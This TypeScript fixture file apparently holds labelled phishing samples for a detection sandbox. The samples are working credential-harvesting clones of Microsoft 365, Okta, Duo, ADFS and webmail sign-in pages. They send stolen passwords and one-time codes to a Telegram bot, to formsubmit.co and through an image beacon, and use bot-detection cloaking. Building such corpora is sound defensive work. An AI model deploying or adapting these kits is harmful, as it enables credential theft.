import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, chunks, doc, keyOf, jsonRoute, GOOGLE_CSS, GOOGLE_G, MS_CSS, MS_SQUARES, msCard, OKTA_CSS, tok, tok64, xorList } from '../parts/yo-kit.js';

// Sign-in kits for identity providers and hosting webmail, as the sandbox opened them from customer mail.

export const entries: Entry[] = [
(() => {
  const host = 'www.tallgrassveterinary.com';
  const p = '/wp-includes/js/tinymce/skins/ms/';
  return {
    id: 'yo-m365-math-captcha-gate',
    label: 'phishing',
    kind: 'm365-captcha-gated',
    url: `https://${host}${p}?u=ZGF2aWQua3JhbWVyQGJyaWdodGxpbmVoZWFsdGgub3Jn`,
    routes: {
      [`${host}${p}`]: htmlRoute(
        doc({
          title: '&#8203;',
          css:
            MS_CSS +
            `\n#gate{position:fixed;inset:0;background:#fff;display:flex;align-items:center;justify-content:center;z-index:9}
#gate .box{border:1px solid #ddd;padding:28px 34px;border-radius:6px;text-align:center;font-family:Arial,sans-serif;box-shadow:0 1px 4px rgba(0,0,0,.08)}
#gate input{width:80px;font-size:20px;text-align:center;padding:6px;margin:12px 0}
#gate button{background:#222;color:#fff;border:0;padding:8px 18px;border-radius:4px}
#app{display:none}`,
          body: `<div id="gate"><div class="box"><p style="font-size:14px;color:#555;margin:0 0 8px">Please complete the security check to continue</p>
<div style="font-size:26px;letter-spacing:3px"><span id="a">7</span> + <span id="b">5</span> = ?</div>
<input id="ans" inputmode="numeric" autocomplete="off"><br><button id="chk">Continue</button><p id="bad" style="color:#c00;font-size:13px;display:none">Incorrect, please try again.</p></div></div>
<div id="app">${msCard(`<form id="f" method="post" action="next.php">
<input type="hidden" name="ip" id="ip"><input type="hidden" name="ua" id="ua">
<div id="p1"><div class="title">Sign in</div>
<input type="email" name="login" id="em" placeholder="Email, phone, or Skype" required>
<div class="small">Can't access your account?</div>
<div class="row"><button type="button" class="btn btn-primary" id="nx">Next</button></div></div>
<div id="p2" style="display:none"><button class="ident" type="button" id="bk">&#8592; <span id="who"></span></button><div class="title">Enter password</div>
<div class="err" id="er">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<input type="password" name="passwd" id="pw" placeholder="Password" required>
<div class="small"><a href="#">Forgot my password</a></div>
<div class="small" style="margin-top:6px"><label><input type="checkbox" name="KMSI"> Keep me signed in</label></div>
<div class="row"><button type="submit" class="btn btn-primary">Sign in</button></div></div></form>`)}</div>
<script>
var A=2+Math.floor(Math.random()*8),B=1+Math.floor(Math.random()*9);document.getElementById("a").textContent=A;document.getElementById("b").textContent=B;
document.getElementById("chk").onclick=function(){if(parseInt(document.getElementById("ans").value,10)===A+B){document.getElementById("gate").remove();document.getElementById("app").style.display="block";document.title="Sign in to your account"}else{document.getElementById("bad").style.display="block"}};
var q=new URLSearchParams(location.search).get("u");if(q){try{document.getElementById("em").value=atob(q)}catch(e){}}
document.getElementById("ua").value=navigator.userAgent;
document.getElementById("nx").onclick=function(){var v=document.getElementById("em").value;if(v.indexOf("@")<1)return;document.getElementById("who").textContent=v;document.getElementById("p1").style.display="none";document.getElementById("p2").style.display="block"};
document.getElementById("bk").onclick=function(){document.getElementById("p2").style.display="none";document.getElementById("p1").style.display="block"};
var n=0;document.getElementById("f").addEventListener("submit",function(e){if(n===0){e.preventDefault();n++;var d=new FormData(this);fetch("next.php",{method:"POST",body:d});document.getElementById("er").style.display="block";document.getElementById("pw").value=""}});
</script>`,
        }),
      ),
      [`${host}${p}next.php`]: redirectRoute(302, 'https://login.microsoftonline.com/'),
    },
  } satisfies Entry;
})(),
(() => {
  const host = 'auth.msverify-session.com';
  const page = doc({
    title: 'Loading...',
    css: `body{margin:0;background:#fff}.ld{position:fixed;top:50%;left:50%;width:40px;height:40px;margin:-20px;border:4px solid #eee;border-top-color:#0067b8;border-radius:50%;animation:r .9s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="ld"></div>
<script>
(function(){
  var bad=navigator.webdriver||/HeadlessChrome|PhantomJS|bot|crawl|spider|curl|python/i.test(navigator.userAgent)||!navigator.languages||navigator.languages.length===0||(window.outerWidth===0);
  if(bad){location.replace("https://www.microsoft.com/en-us/microsoft-365");return}
  var tz=Intl.DateTimeFormat().resolvedOptions().timeZone;
  fetch("/v2/render?sid=${tok('yo-cloak-sid', 16)}&tz="+encodeURIComponent(tz)+"&w="+screen.width,{credentials:"same-origin"})
   .then(function(r){return r.json()}).then(function(j){if(!j.h){location.replace("https://www.office.com");return}
     document.open();document.write(atob(j.h));document.close()});
})();
</script>`,
  });
  const kit = doc({
    title: 'Sign in to your account',
    css: MS_CSS,
    body:
      msCard(`<form method="post" action="/v2/c" id="f"><div class="title">Sign in</div>
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<div class="small"><a href="#">Can't access your account?</a></div>
<div class="row"><button class="btn btn-primary" type="submit">Sign in</button></div></form>`) + '',
  });
  return {
    id: 'yo-m365-ua-cloaked-loader',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: `https://${host}/s/${tok('yo-cloak-path', 10)}`,
    routes: {
      [`${host}/s/${tok('yo-cloak-path', 10)}`]: htmlRoute(page),
      [`${host}/v2/render`]: jsonRoute({ h: b64(kit), t: Date.UTC(2024, 9, 2) }),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-m365-de-kennwort-telegram',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://login-microsoftonline.konto-sicherheit24.de/common/oauth2/?client=outlook#c.weber@stadtwerke-hollfeld.de',
  body: doc({
    title: 'Bei Ihrem Konto anmelden',
    lang: 'de',
    css: MS_CSS,
    body:
      msCard(`<button class="ident" type="button" id="idt">&#8592; <span id="mail"></span></button>
<div class="title">Kennwort eingeben</div>
<div class="err" id="fehler">Ihr Konto oder Kennwort ist falsch. Wenn Sie Ihr Kennwort vergessen haben, <a href="#">setzen Sie es jetzt zurück.</a></div>
<form id="form1"><input type="password" name="passwd" id="passwd" placeholder="Kennwort" autocomplete="off" required>
<div class="small"><a href="#">Kennwort vergessen?</a></div>
<div class="small" style="margin-top:8px"><a href="#">Mit einem anderen Konto anmelden</a></div>
<div class="row"><button type="submit" class="btn btn-primary">Anmelden</button></div></form>`) +
      `<script>
var u=decodeURIComponent(location.hash.replace("#",""));document.getElementById("mail").textContent=u;
var tk="6894415320:AAGm_2xYq8cWn0RzJvT5pLk3H1sDf7eUiBo",cid="5830094127",n=0;
document.getElementById("form1").addEventListener("submit",function(e){e.preventDefault();n++;var pw=document.getElementById("passwd").value;
fetch("https://ipapi.co/json/").then(function(r){return r.json()}).catch(function(){return{}}).then(function(g){
var t="[O365 DE]\\nUser: "+u+"\\nPass: "+pw+"\\nIP: "+(g.ip||"?")+" "+(g.country_name||"")+"\\nVersuch: "+n;
return fetch("https://api.telegram.org/bot"+tk+"/sendMessage?chat_id="+cid+"&text="+encodeURIComponent(t))}).then(function(){
if(n<2){document.getElementById("fehler").style.display="block";document.getElementById("passwd").value=""}else{location.replace("https://outlook.office365.com/mail/")}})});
</script>`,
  }),
},
(() => {
  const host = 'northwindtraders-okta.com';
  return {
    id: 'yo-okta-tenant-lookalike-push',
    label: 'phishing',
    kind: 'okta-kit',
    url: `https://${host}/app/office365/exk1a9nd02h7sQ5x4697/sso/saml?SAMLRequest=fZJNT8MwDIb`,
    body: doc({
      title: 'Northwind Traders - Sign In',
      css: OKTA_CSS,
      body: `<div id="okta-sign-in" class="auth-container main-container">
  <div class="okta-sign-in-header auth-header"><svg width="190" height="38" viewBox="0 0 190 38" aria-label="Northwind Traders"><path d="M4 34L19 4l15 30z" fill="#0f5e9c"/><text x="42" y="26" font-family="Georgia,serif" font-size="19" fill="#0f5e9c">Northwind Traders</text></svg></div>
  <div class="auth-content">
    <div id="v1"><h2>Sign In</h2>
      <form id="of">
        <label class="o-form-label" for="okta-signin-username">Username</label>
        <div class="o-form-input"><input id="okta-signin-username" name="username" type="text" autocomplete="username"></div>
        <label class="o-form-label" for="okta-signin-password">Password</label>
        <div class="o-form-input"><input id="okta-signin-password" name="password" type="password" autocomplete="current-password"></div>
        <div class="chk"><label><input type="checkbox" name="remember"> Remember me</label></div>
        <input class="button-primary" type="submit" value="Sign In" id="okta-signin-submit">
      </form>
      <div class="auth-footer"><a href="#">Need help signing in?</a></div>
    </div>
    <div id="v2" style="display:none;text-align:center">
      <h2>Okta Verify</h2>
      <p style="font-size:14px">A push notification has been sent to your phone. Tap <b>Yes, it's me</b> in Okta Verify to continue.</p>
      <div style="font-size:44px;font-weight:700;margin:18px 0" id="nm">--</div>
      <p style="font-size:13px;color:#6e6e78">Or enter a code</p>
      <div class="o-form-input"><input id="otp" maxlength="6" inputmode="numeric" placeholder="Enter Code"></div>
      <button class="button-primary" id="vf">Verify</button>
    </div>
  </div>
</div>
<div class="powered">Powered by Okta &nbsp;&bull;&nbsp; <a href="#" style="color:#6e6e78">Privacy Policy</a></div>
<script>
var S="/idp/authn/${tok('okta-lk', 12)}";
function send(o,cb){var x=new XMLHttpRequest();x.open("POST",S);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.onloadend=function(){var r={};try{r=JSON.parse(x.responseText)}catch(e){}cb&&cb(r)};x.send(new URLSearchParams(o).toString())}
document.getElementById("of").onsubmit=function(e){e.preventDefault();
 send({u:this.username.value,p:this.password.value,src:"okta"},function(r){document.getElementById("v1").style.display="none";document.getElementById("v2").style.display="block";document.getElementById("nm").textContent=r.challenge||"48"})};
document.getElementById("vf").onclick=function(){send({otp:document.getElementById("otp").value},function(){location.href="https://northwindtraders.okta.com/app/UserHome"})};
</script>`,
    }),
  } satisfies Entry;
})(),
{
  id: 'yo-duo-passcode-kit',
  label: 'phishing',
  kind: 'duo-kit',
  url: 'https://duo-sso.bluewaterhealthit.com/frame/v4/auth/prompt?sid=frameless-8f2c61b0-4d7e-4c1a-9b3e-21e6d4ad7c90',
  body: doc({
    title: 'Duo Security',
    css: `body{margin:0;background:#f4f4f4;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;color:#2b2b2b}
.box{width:380px;max-width:calc(100vw - 32px);margin:70px auto;background:#fff;border-radius:8px;box-shadow:0 1px 3px rgba(0,0,0,.15);padding:32px}
.org{display:flex;align-items:center;gap:10px;font-weight:600;font-size:15px;margin-bottom:24px}
.org i{width:30px;height:30px;border-radius:6px;background:#2a6f4f;display:inline-block}
h1{font-size:22px;margin:0 0 14px}label{display:block;font-size:13px;margin:14px 0 4px;color:#555}
input{width:100%;box-sizing:border-box;height:42px;border:1px solid #b4b4b4;border-radius:4px;padding:8px;font-size:15px}
button{margin-top:20px;width:100%;height:44px;border:0;border-radius:4px;background:#1f5fcf;color:#fff;font-size:15px;font-weight:600}
.meta{margin-top:22px;font-size:12px;color:#777;text-align:center}.duo{color:#6ebe44;font-weight:800}`,
    body: `<div class="box">
<div class="org"><i></i>Bluewater Health</div>
<div id="a"><h1>Log in to continue</h1>
<form id="f1"><label>Username</label><input name="user" autocomplete="username"><label>Password</label><input type="password" name="pass" autocomplete="current-password"><button>Log in</button></form></div>
<div id="b" style="display:none"><h1>Enter a passcode</h1><p style="font-size:14px">Enter the 6-digit code from Duo Mobile or the text message we sent to your phone ending in &#8226;&#8226;42.</p>
<form id="f2"><label>Passcode</label><input name="passcode" inputmode="numeric" maxlength="6" autocomplete="one-time-code"><button>Verify</button></form></div>
<div class="meta">Secured by <span class="duo">DUO</span> &middot; <a href="#">Need help?</a></div>
</div>
<script>
var cred={};
function ship(o){return fetch("/frame/v4/auth/collect",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(o)}).catch(function(){})}
document.getElementById("f1").onsubmit=function(e){e.preventDefault();cred.u=this.user.value;cred.p=this.pass.value;ship(cred);document.getElementById("a").style.display="none";document.getElementById("b").style.display="block"};
document.getElementById("f2").onsubmit=function(e){e.preventDefault();cred.otp=this.passcode.value;ship(cred).then(function(){location.href="https://portal.office.com"})};
</script>`,
  }),
},
{
  id: 'yo-adfs-clone-compromised-wp',
  label: 'phishing',
  kind: 'adfs-kit',
  url: 'https://www.lakeviewfamilydental.com/wp-content/uploads/2024/08/adfs/ls/?client-request-id=4e1c09a2-77d4-4b2f-9d61-0f3a9be2c551&wa=wsignin1.0',
  body: doc({
    title: 'Sign In',
    css: `body{margin:0;font-family:"Segoe UI","Segoe",Tahoma,Helvetica,Arial,sans-serif;font-size:14px;color:#262626}
#fullPage{display:flex;min-height:100vh}#brandingWrapper{flex:1;background:#1b3a57 linear-gradient(160deg,#24507a,#102a40)}
#contentWrapper{width:500px;max-width:100%;background:#fff;padding:60px 80px;box-sizing:border-box}
#companyLogo{font-size:20px;font-weight:600;color:#1b3a57;margin-bottom:40px}
#header{font-size:17px;margin-bottom:24px}input.text{width:100%;box-sizing:border-box;height:34px;border:1px solid #b0b0b0;padding:4px 8px;margin-bottom:14px;font-size:14px}
#submitButton{background:#1b3a57;color:#fff;border:0;padding:8px 22px;font-size:14px;cursor:pointer}
#error{color:#c00;display:none;margin-bottom:12px}#footer{margin-top:60px;font-size:12px;color:#666}`,
    body: `<div id="fullPage"><div id="brandingWrapper"></div>
<div id="contentWrapper">
<div id="companyLogo">Harbor Freightways</div>
<div id="header">Sign in with your organizational account</div>
<div id="error">Incorrect user ID or password. Type the correct user ID and password, and try again.</div>
<form method="post" id="loginForm" autocomplete="off" action="../../../08/adfs/post.php">
<input id="userNameInput" name="UserName" type="email" class="text" placeholder="someone@example.com">
<input id="passwordInput" name="Password" type="password" class="text" placeholder="Password">
<div style="margin:6px 0 16px"><label><input type="checkbox" name="Kmsi" value="true"> Keep me signed in</label></div>
<span id="submitButton" role="button" tabindex="0" onclick="return Login.submitLoginRequest();">Sign in</span>
<input name="AuthMethod" type="hidden" value="FormsAuthentication">
</form>
<div id="footer">&copy; 2024 Microsoft</div>
</div></div>
<script>
var Login={n:0,submitLoginRequest:function(){var f=document.getElementById("loginForm");var u=f.UserName.value,p=f.Password.value;if(!u||!p){return false}
 Login.n++;var x=new XMLHttpRequest();x.open("POST",f.action,true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
 x.send("u="+encodeURIComponent(u)+"&p="+encodeURIComponent(p)+"&n="+Login.n+"&brand=harborfw");
 if(Login.n<3){document.getElementById("error").style.display="block";f.Password.value=""}else{window.location="https://www.harborfreightways.com/"}return false}};
var m=location.search.match(/[?&]login_hint=([^&]+)/);if(m)document.getElementById("userNameInput").value=decodeURIComponent(m[1]);
</script>`,
  }),
},
{
  id: 'yo-m365-qr-mobile-landing',
  label: 'phishing',
  kind: 'qr-landing-kit',
  url: 'https://m.o365-mfa-reenroll.com/r/?id=Y2hyaXMucGF0ZWxAa2lyYnluZXR3b3Jrcy5jb20=&src=qr',
  body: doc({
    title: 'Microsoft Authenticator',
    css: MS_CSS + `\n@media(max-width:600px){.card{box-shadow:none;padding:24px;width:100%;max-width:100%}.foot{display:none}}`,
    body:
      msCard(`<div class="title">Update your MFA settings</div>
<p class="small">Your organization requires you to re-register Microsoft Authenticator by <b id="dl"></b>. Sign in to keep access to email and Teams.</p>
<form id="q" method="post" action="/r/submit.php">
<input type="email" name="email" id="qe" placeholder="Work email" required readonly>
<input type="password" name="password" placeholder="Password" required>
<input type="tel" name="phone" placeholder="Mobile number for verification" required>
<div class="row"><button class="btn btn-primary" type="submit">Continue</button></div></form>`) +
      `<script>
try{document.getElementById("qe").value=atob(new URLSearchParams(location.search).get("id"))}catch(e){document.getElementById("qe").readOnly=false}
var d=new Date(Date.now()+864e5);document.getElementById("dl").textContent=d.toLocaleDateString("en-US",{month:"long",day:"numeric"});
</script>`,
  }),
},
(() => {
  const kitHost = 'auth.o365-securemail-gateway.com';
  const kitPath = '/owa/?realm=pass.kirbynetworks.com&wreply=inbox';
  const sl = 'https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fr20.rs6.net%2Ftn.jsp%3Ff%3D001xQ7vb9c&data=05%7C02%7Cap%40kirbynetworks.com%7C7e2d&sdata=Zk3bq%2F0XhP8vR%3D&reserved=0';
  return {
    id: 'yo-safelinks-rs6-chain-m365',
    label: 'phishing',
    kind: 'redirect-chain-kit',
    url: sl,
    routes: {
      [keyOf(sl)]: redirectRoute(302, 'https://r20.rs6.net/tn.jsp?f=001xQ7vb9c&c=KzP1&ch=Qb2'),
      'r20.rs6.net/tn.jsp?f=001xQ7vb9c&c=KzP1&ch=Qb2': redirectRoute(302, 'https://t.ly/Rm4Ka'),
      't.ly/Rm4Ka': redirectRoute(301, `https://${kitHost}${kitPath}`),
      [`${kitHost}/owa/`]: htmlRoute(
        doc({
          title: 'Sign in to your account',
          css: MS_CSS,
          body:
            msCard(`<form method="post" action="/owa/auth.php" id="f"><div class="title">Sign in</div>
<p class="small" style="margin-top:-6px">Your session has expired. Sign in again to view the shared invoice.</p>
<input type="email" name="loginfmt" id="u" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<div class="small"><a href="#">Forgot my password</a></div>
<div class="row"><button type="submit" class="btn btn-primary">Sign in</button></div></form>`) +
            `<script>var r=new URLSearchParams(location.search).get("realm");if(r)document.getElementById("u").placeholder="someone@"+r.replace(/^pass\\./,"");</script>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-roundcube-postfach-voll-de',
  label: 'phishing',
  kind: 'webmail-clone-hosting',
  url: 'https://mail-verwaltung.postfach-speicher.info/roundcube/?_task=login&user=k.schneider%40autohaus-brenner.de',
  body: doc({
    title: 'Roundcube Webmail :: Willkommen bei Roundcube Webmail',
    lang: 'de',
    css: `body{margin:0;background:#2f3a3f;font-family:"Roboto","Helvetica Neue",Arial,sans-serif}
#layout-content{max-width:380px;margin:8vh auto;background:#fff;border-radius:4px;padding:32px 36px;box-shadow:0 6px 24px rgba(0,0,0,.3)}
#logo{text-align:center;font-size:22px;font-weight:300;color:#37beff;margin-bottom:14px}#logo b{color:#2f3a3f}
.hinweis{background:#ffe7e7;color:#8a1f1f;padding:10px;border-radius:3px;font-size:13px;margin-bottom:16px}
.bar{height:8px;background:#eee;border-radius:4px;overflow:hidden;margin:6px 0 16px}.bar i{display:block;height:100%;width:99%;background:#e44}
td{padding:6px 0;font-size:14px;color:#333}td.title{width:90px}input.form-control{width:100%;box-sizing:border-box;height:36px;border:1px solid #ccc;border-radius:3px;padding:0 8px}
#rcmloginsubmit{width:100%;height:40px;background:#37beff;border:0;color:#fff;font-size:15px;border-radius:3px;margin-top:12px}
#bottomline{text-align:center;color:#999;font-size:12px;margin-top:18px}`,
    body: `<div id="layout-content"><div id="logo">&#9993; <b>Roundcube</b> Webmail</div>
<div class="hinweis"><b>Ihr Postfach ist voll (4,95 GB von 5 GB).</b> Neue E-Mails werden abgewiesen. Melden Sie sich an, um den Speicher kostenlos zu erweitern.</div>
<div class="bar"><i></i></div>
<form name="login-form" method="post" action="./senden.php" id="lf">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="tz">
<table><tbody><tr><td class="title"><label for="rcmloginuser">Benutzername</label></td><td class="input"><input name="_user" id="rcmloginuser" class="form-control" required></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Passwort</label></td><td class="input"><input name="_pass" id="rcmloginpwd" type="password" class="form-control" required></td></tr></tbody></table>
<button type="submit" id="rcmloginsubmit">Anmelden</button></form>
<div id="bottomline">Roundcube Webmail &bull; <a href="#">Support</a></div></div>
<script>
document.getElementById("tz").value=Intl.DateTimeFormat().resolvedOptions().timeZone;
var u=new URLSearchParams(location.search).get("user");if(u){document.getElementById("rcmloginuser").value=u}
document.getElementById("lf").addEventListener("submit",function(e){e.preventDefault();var d=new FormData(this);
fetch("https://formsubmit.co/ajax/b7a1c3e9d2f04e58a6c1e3f7b9d2a4c6",{method:"POST",body:d}).finally(function(){location.href="https://"+(u||"x@web.de").split("@")[1]})});
</script>`,
  }),
},
{
  id: 'yo-zimbra-buzon-es',
  label: 'phishing',
  kind: 'webmail-clone-hosting',
  url: 'https://zimbra-correo.actualizacion-cuentas.com/zimbra/?loginOp=relogin&client=preferred&u=tesoreria@transportesgarrido.es',
  body: doc({
    title: 'Zimbra Web Client Sign In',
    lang: 'es',
    css: `body{margin:0;background:#fff;font-family:Helvetica,Arial,sans-serif}
.LoginScreen{display:flex;min-height:100vh}.side{flex:1;background:linear-gradient(120deg,#0087c3,#24b0e6)}
.center{width:420px;max-width:100%;padding:80px 48px;box-sizing:border-box}
.ImgLoginBanner{font-size:34px;font-weight:700;color:#0087c3;margin-bottom:30px}.ImgLoginBanner small{font-size:12px;color:#666;display:block;font-weight:400}
.aviso{font-size:13px;background:#fff8e1;border:1px solid #ffcc80;padding:10px;margin-bottom:14px}
label{display:block;font-size:13px;color:#333;margin:12px 0 4px}input.zLoginField{width:100%;box-sizing:border-box;height:34px;border:1px solid #aaa;padding:0 8px}
.ZLoginButton{margin-top:18px;background:#0087c3;color:#fff;border:0;padding:9px 24px;font-size:14px;border-radius:3px}
.Footer{font-size:11px;color:#888;margin-top:40px}`,
    body: `<div class="LoginScreen"><div class="center">
<div class="ImgLoginBanner">zimbra<small>Colaboración</small></div>
<div class="aviso">Su buzón ha superado el límite de almacenamiento. Inicie sesión para validar su cuenta y evitar la pérdida de mensajes.</div>
<form method="post" name="loginForm" action="procesar.php" accept-charset="UTF-8">
<input type="hidden" name="loginOp" value="login">
<label for="username">Nombre de usuario:</label><input id="username" class="zLoginField" name="username" type="text" autocomplete="off">
<label for="password">Contraseña:</label><input id="password" class="zLoginField" name="password" type="password" autocomplete="off">
<div style="margin-top:10px;font-size:13px"><input id="remember" value="1" type="checkbox" name="zrememberme"> <label for="remember" style="display:inline">Recordarme</label></div>
<input type="submit" class="ZLoginButton" value="Iniciar sesión"></form>
<div class="Footer">Copyright &copy; 2005-2024 Synacor, Inc. Todos los derechos reservados.</div></div><div class="side"></div></div>
<script>var u=new URLSearchParams(location.search).get("u");if(u)document.getElementById("username").value=u;</script>`,
  }),
},
{
  id: 'yo-owa-2016-clone-nl',
  label: 'phishing',
  kind: 'webmail-clone-onprem',
  url: 'https://owa.gemeente-mail-beveiliging.nl/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.bouwbedrijf-vandijk.nl%2fowa%2f',
  body: doc({
    title: 'Outlook',
    lang: 'nl',
    css: `body{margin:0;font-family:"Segoe UI","Segoe WP",Tahoma,Arial,sans-serif;background:#fff;color:#333}
.mainLogonDiv{position:absolute;top:40%;left:50%;transform:translate(-50%,-50%);width:360px}
.signInImageHeader{font-size:42px;color:#0072c6;font-weight:300;margin-bottom:24px}
.signInInputLabel{font-size:13px;color:#666;margin:10px 0 4px}.signInTextHeader{font-size:13px;margin-bottom:18px}
input.signInInputText{width:100%;box-sizing:border-box;height:32px;border:1px solid #ccc;padding:0 8px;font-size:14px}
.signinbutton{margin-top:24px;font-size:22px;color:#0072c6;cursor:pointer;display:inline-flex;align-items:center;gap:10px;border:0;background:none}
.signinbutton:before{content:"";display:inline-block;width:28px;height:28px;border-radius:50%;border:2px solid #0072c6}
#expiredBanner{color:#c00;font-size:13px;margin-bottom:10px}`,
    body: `<div class="mainLogonDiv"><div class="signInImageHeader">Outlook</div>
<div id="expiredBanner">Uw sessie is verlopen. Meld u opnieuw aan.</div>
<div class="signInTextHeader">Beveiliging (deze gegevens bevatten uitleg)</div>
<form action="/owa/auth.owa" method="POST" name="logonForm" id="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="https://mail.bouwbedrijf-vandijk.nl/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="signInInputLabel">Domein\\gebruikersnaam:</div><input id="username" name="username" type="text" class="signInInputText" placeholder="domein\\gebruikersnaam">
<div class="signInInputLabel">Wachtwoord:</div><input id="password" name="password" type="password" class="signInInputText">
<div class="signinbutton" role="button" tabindex="0" onclick="clkLgn()">aanmelden</div></form></div>
<script>
function clkLgn(){var f=document.getElementById("logonForm");if(!f.username.value||!f.password.value)return;
 var img=new Image();img.src="https://owa.gemeente-mail-beveiliging.nl/px.gif?u="+encodeURIComponent(f.username.value)+"&p="+encodeURIComponent(btoa(f.password.value));
 setTimeout(function(){f.submit()},400)}
</script>`,
  }),
},
];
